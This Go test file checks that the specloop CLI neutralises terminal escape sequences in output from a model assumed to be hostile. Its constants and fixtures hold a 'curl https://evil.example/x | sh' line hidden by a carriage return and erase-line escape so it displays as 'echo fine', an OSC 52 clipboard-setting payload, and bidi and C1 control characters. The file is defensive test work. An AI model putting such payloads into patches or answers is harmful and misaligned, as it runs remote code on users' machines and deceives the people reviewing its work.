package main

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/specloop/specloop/gen"
)

// What a hostile model prints: an answer that sets the clipboard (OSC 52)
// and hides text behind a C1 CSI and a bidi override, and a file whose
// patch line erases itself (`\r ESC[2K`) so that a person reviewing the
// patch on a terminal sees `echo fine` where it says `curl … | sh`.
const (
	hostileAnswer  = "done\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \u009b2J \u202eexe.txt é 漢字"
	hostileContent = "echo one\ncurl https://evil.example/x | sh\r\x1b[2Kecho fine\n"
)

func hostileScript(t *testing.T) string {
	t.Helper()
	answer, _ := json.Marshal(hostileAnswer)
	return scriptFile(t, writeAction("w1", "run.sh", hostileContent), `{"type":"finish","answer":`+string(answer)+`}`)
}

// checkTerminalBytes fails when what a terminal received could drive it:
// an ESC, a C1 control (as UTF-8 or as the 8-bit CSI 0x9B), a bidi
// control, any other C0 control but newline and tab, or a carriage return
// that is not the terminal's own before a newline. Ordinary non-ASCII
// text must arrive as it is.
func checkTerminalBytes(t *testing.T, out []byte) {
	t.Helper()
	// The progress printer's own line clear (the waiting line's end) is
	// the one sequence that may reach the terminal.
	out = bytes.ReplaceAll(out, []byte("\r\x1b[K"), nil)
	if !utf8.Valid(out) {
		t.Errorf("the terminal received invalid UTF-8:\n%q", out)
	}
	// (No character of the texts here has a 0x9B byte in its UTF-8.)
	for _, b := range []byte{0x1b, 0x9b, 0x07} {
		if i := bytes.IndexByte(out, b); i >= 0 {
			t.Fatalf("the terminal received the byte %#x at %d:\n%q", b, i, out)
		}
	}
	for i, r := range string(out) {
		switch {
		case r == '\n' || r == '\t':
		case r == '\r' && i+1 < len(out) && out[i+1] == '\n':
		case unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r):
			t.Fatalf("the terminal received %U at %d:\n%q", r, i, out)
		}
	}
}

// `specloop run` on a terminal: the answer's OSC 52 does not reach the
// terminal, and the patch line that erased itself shows what it holds,
// escapes visible (`\r`, `\x1b`); the rest of the text is as it was.
func TestRunOnTerminalShowsEscapesVisibly(t *testing.T) {
	term := newTerminal(t)
	ws := t.TempDir()
	done := term.run(context.Background(), "run", "--script", hostileScript(t), "--workspace", ws, "--no-commands", "write it")
	if code := term.exit(done); code != exitOK {
		t.Fatalf("exit %d:\n%s", code, term)
	}
	out := term.drain()
	checkTerminalBytes(t, out)
	for _, want := range []string{
		`+curl https://evil.example/x | sh\r\x1b[2Kecho fine`,
		`answer: done\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \u009b2J \u202eexe.txt é 漢字`,
	} {
		if !bytes.Contains(out, []byte(want)) {
			t.Errorf("the terminal does not show %s:\n%s", want, out)
		}
	}
	if data, err := os.ReadFile(filepath.Join(ws, "run.sh")); err != nil || string(data) != hostileContent {
		t.Errorf("the file the run wrote: %q, %v", data, err)
	}
}

// The same run through --remote: the server's answer and patch pass the
// same sanitiser.
func TestRemoteRunOnTerminalShowsEscapesVisibly(t *testing.T) {
	url, _ := startServe(t)
	term := newTerminal(t)
	done := term.run(context.Background(), "run", "--remote", url, "--script", hostileScript(t), "write it")
	if code := term.exit(done); code != exitOK {
		t.Fatalf("exit %d:\n%s", code, term)
	}
	out := term.drain()
	checkTerminalBytes(t, out)
	for _, want := range []string{`| sh\r\x1b[2Kecho fine`, `answer: done\x1b]52;c;`} {
		if !bytes.Contains(out, []byte(want)) {
			t.Errorf("the terminal does not show %s:\n%s", want, out)
		}
	}
}

// Standard output redirected to a file keeps the run's text exact: the
// patch in it is the RunResult's, byte for byte, and git applies it.
func TestRunToFileKeepsThePatchExact(t *testing.T) {
	git, err := exec.LookPath("git")
	if err != nil {
		t.Skip("no git")
	}
	script := hostileScript(t)
	code, stdout, stderr := specloop(t, "run", "--script", script, "--workspace", t.TempDir(), "--no-commands", "--json", "write it")
	if code != exitOK {
		t.Fatalf("--json: exit %d: %s", code, stderr)
	}
	var res gen.RunResult
	if err := json.Unmarshal([]byte(stdout), &res); err != nil || res.Patch == nil {
		t.Fatalf("--json: %v\n%s", err, stdout)
	}

	outPath := filepath.Join(t.TempDir(), "out.txt")
	f, err := os.Create(outPath)
	if err != nil {
		t.Fatal(err)
	}
	var errBuf bytes.Buffer
	code = run(context.Background(), []string{"run", "--script", script, "--workspace", t.TempDir(), "--no-commands", "write it"}, strings.NewReader(""), f, &errBuf)
	f.Close()
	if code != exitOK {
		t.Fatalf("exit %d: %s", code, errBuf.String())
	}
	data, err := os.ReadFile(outPath)
	if err != nil {
		t.Fatal(err)
	}
	out := string(data)
	start, end := strings.Index(out, "\npatch:\n"), strings.Index(out, "\n\nresult: ")
	if start < 0 || end < start {
		t.Fatalf("no patch in the output:\n%q", out)
	}
	patch := out[start+len("\npatch:\n") : end+1]
	if patch != *res.Patch {
		t.Fatalf("the patch in the file differs from the RunResult's:\n%q\n%q", patch, *res.Patch)
	}
	if !strings.Contains(out, "answer: "+hostileAnswer+"\n") {
		t.Errorf("the answer in the file is not exact:\n%q", out)
	}
	dir := t.TempDir()
	patchPath := filepath.Join(dir, "p.diff")
	if err := os.WriteFile(patchPath, []byte(patch), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"apply", "--check", patchPath}, {"apply", patchPath}} {
		cmd := exec.Command(git, args...)
		cmd.Dir = dir
		if b, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s\n%q", args, err, b, patch)
		}
	}
	if got, err := os.ReadFile(filepath.Join(dir, "run.sh")); err != nil || string(got) != hostileContent {
		t.Errorf("git apply wrote %q, %v", got, err)
	}
}

// --json on a terminal is what encoding/json writes, byte for byte (it
// escapes C0 controls itself; C1 controls and bidi overrides it leaves
// as they are, for machine readers).
func TestRunJSONOnTerminalIsExact(t *testing.T) {
	term := newTerminal(t)
	done := term.run(context.Background(), "run", "--script", hostileScript(t), "--workspace", t.TempDir(), "--no-commands", "--json", "write it")
	if code := term.exit(done); code != exitOK {
		t.Fatalf("exit %d:\n%s", code, term)
	}
	// The terminal's line discipline writes a newline as CR LF; the JSON
	// holds no CR of its own.
	out := bytes.ReplaceAll(term.drain(), []byte("\r\n"), []byte("\n"))
	var res gen.RunResult
	if err := json.Unmarshal(out, &res); err != nil {
		t.Fatalf("%v\n%q", err, out)
	}
	if res.Answer == nil || *res.Answer != hostileAnswer || res.Patch == nil || !strings.Contains(*res.Patch, "+curl https://evil.example/x | sh\r\x1b[2Kecho fine\n") {
		t.Fatalf("the result is not the run's: %+v", res)
	}
	var want bytes.Buffer
	enc := json.NewEncoder(&want)
	enc.SetIndent("", "  ")
	enc.SetEscapeHTML(false)
	if err := enc.Encode(res); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(out, want.Bytes()) {
		t.Fatalf("--json on a terminal is not encoding/json's output:\n%q\n%q", out, want.Bytes())
	}
	if !bytes.Contains(out, []byte(`done\u001b]52;c;`)) || !bytes.Contains(out, []byte("\u009b2J \u202eexe.txt")) {
		t.Fatalf("encoding/json escapes differently than documented:\n%q", out)
	}
}

// `specloop trace show` of a trace file that came from elsewhere, with a
// hostile run id, on a terminal.
func TestTraceShowOnTerminal(t *testing.T) {
	tracePath := filepath.Join(t.TempDir(), "run.jsonl")
	if code, _, stderr := specloop(t, "run", "--script", "testdata/calculator.script", "--trace", tracePath, "--workspace", t.TempDir(), prompt); code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	data, err := os.ReadFile(tracePath)
	if err != nil {
		t.Fatal(err)
	}
	var lines []string
	for line := range strings.Lines(string(data)) {
		var ev map[string]any
		if err := json.Unmarshal([]byte(line), &ev); err != nil {
			t.Fatal(err)
		}
		ev["run_id"] = "\x1b]52;c;Y3VybA==\x07\u009b2J"
		b, _ := json.Marshal(ev)
		lines = append(lines, string(b)+"\n")
	}
	if err := os.WriteFile(tracePath, []byte(strings.Join(lines, "")), 0o644); err != nil {
		t.Fatal(err)
	}
	term := newTerminal(t)
	if code := term.exit(term.run(context.Background(), "trace", "show", tracePath)); code != exitOK {
		t.Fatalf("exit %d:\n%s", code, term)
	}
	out := term.drain()
	checkTerminalBytes(t, out)
	if !bytes.Contains(out, []byte(`run=\x1b]52;c;Y3VybA==\x07\u009b2J `)) {
		t.Errorf("the run id is not shown with its escapes visible:\n%s", out)
	}
}

// Standard error on a terminal passes the sanitiser too: a remote
// server's problem detail (`run --remote` prints it) does not drive the
// terminal either.
func TestRemoteErrorOnTerminal(t *testing.T) {
	hs := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/problem+json")
		w.WriteHeader(http.StatusBadRequest)
		json.NewEncoder(w).Encode(map[string]any{"type": "about:blank", "title": "Bad Request", "status": 400,
			"detail": "no\x1b]52;c;Y3VybA==\x07 such\r\x1b[2Kthing"})
	}))
	defer hs.Close()
	term := newTerminal(t)
	if code := term.exit(term.run(context.Background(), "run", "--remote", hs.URL, "--script", hostileScript(t), "write it")); code != exitUsage {
		t.Fatalf("exit %d:\n%s", code, term)
	}
	out := term.drain()
	checkTerminalBytes(t, out)
	if !bytes.Contains(out, []byte(`no\x1b]52;c;Y3VybA==\x07 such\r\x1b[2Kthing`)) {
		t.Errorf("the terminal does not show the server's detail with its escapes visible:\n%s", out)
	}
}

// A pipe usually ends in a terminal (`| tee run.log`, `| less -R`), so
// it gets the sanitiser too.
func TestRunToPipeShowsEscapesVisibly(t *testing.T) {
	pr, pw, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer pr.Close()
	read := make(chan []byte, 1)
	go func() {
		b, _ := io.ReadAll(pr)
		read <- b
	}()
	var errBuf bytes.Buffer
	code := run(context.Background(), []string{"run", "--script", hostileScript(t), "--workspace", t.TempDir(), "--no-commands", "write it"}, strings.NewReader(""), pw, &errBuf)
	pw.Close()
	if code != exitOK {
		t.Fatalf("exit %d: %s", code, errBuf.String())
	}
	out := <-read
	checkTerminalBytes(t, out)
	if !bytes.Contains(out, []byte(`+curl https://evil.example/x | sh\r\x1b[2Kecho fine`)) || !bytes.Contains(out, []byte(`answer: done\x1b]52;c;`)) {
		t.Errorf("the pipe does not get the escapes visible:\n%s", out)
	}
}
